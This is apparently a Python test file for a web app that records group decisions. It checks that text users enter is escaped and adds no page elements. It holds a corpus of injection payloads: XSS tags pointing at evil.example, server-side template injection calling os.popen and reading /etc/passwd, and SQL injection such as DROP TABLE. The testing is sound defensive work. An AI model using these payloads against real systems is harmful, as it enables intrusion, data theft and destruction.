from dataclasses import replace

import pytest
from hypothesis import given
from hypothesis import strategies as st

from decisions.decision import Option
from decisions.queries import History
from decisions.views import Named
from decisions.words import Words
from tests.adapters.web.histories import ANA, BEN, SARA, a_history, a_response, a_view, decided, responded
from tests.adapters.web.reading import read, written

OPENERS = [
    "",
    '"',
    "'",
    ">",
    '">',
    "'>",
    "</p>",
    "</h1>",
    "</title>",
    "</time>",
    "-->",
    "]]>",
    "\\",
    "\n",
    "&",
    "&#34;>",
]
PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<a href='javascript:alert(1)'>press</a>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example>",
    "<style>*{display:none}</style>",
    "<form action=//evil.example><input name=link>",
    "<base href=//evil.example>",
    "<body onload=alert(1)>",
    "<!--",
    "<plaintext>",
    "<textarea>",
    "x onmouseover=alert(1) y=",
    "{{7*7}}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{% for x in range(10**9) %}{% endfor %}",
    "{% include '/etc/passwd' %}",
    "{# gone #}",
    "{{ page.happenings }}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "%s%n{0.__class__}",
    "'; DROP TABLE decisions; --",
    "1' OR '1'='1",
    "\" UNION SELECT secret FROM words --",
    "&lt;script&gt;",
    "javascript:alert(1)",
    "\u202egnp.exe",
]  # fmt: skip
CORPUS = [opener + payload for opener in OPENERS for payload in PAYLOADS]


def everywhere(text: str) -> History:
    """A decision in which people wrote `text` into every field that takes words, and into their names."""
    words = Words(text)
    option = Option(key="A", name=words, trade_off=words)
    by = Named(ANA, text)
    result = replace(a_response(), by=by, position=text, option=option, conditions=(words,), reason=words)
    view = replace(
        decided(result).view,
        question=words,
        options=(option,),
        why=words,
        because=text,
        raised_by=Named(SARA, text),
    )
    answered = replace(responded("A"), on_behalf_of=BEN, conditions=(words,), reason=words)
    return a_history(view, answered, p_ana=text, p_ben=text)


PLAIN = read(everywhere("xyzzy"))
EVERYWHERE = "".join(PLAIN.pieces).count("xyzzy")


@pytest.mark.parametrize("text", CORPUS)
def test_what_people_write_is_read_as_it_was_written_and_builds_nothing(text: str) -> None:
    page = read(everywhere(text))

    assert page.elements == PLAIN.elements
    assert "".join(page.pieces).count(text) == EVERYWHERE


def test_the_corpus_reaches_every_field_and_is_not_small() -> None:
    assert EVERYWHERE >= 14
    assert len(set(CORPUS)) >= 500


@given(st.text().map(Words.cleaned).filter(bool))
def test_any_text_builds_nothing(text: Words) -> None:
    assert [tag for tag, _ in read(everywhere(text)).elements] == [tag for tag, _ in PLAIN.elements]


def test_lines_stay_lines() -> None:
    history = a_history(replace(a_view(), why=Words("one\ntwo\n\nthree")))

    assert 'class="words" dir="auto">one\ntwo\n\nthree</' in written(history)
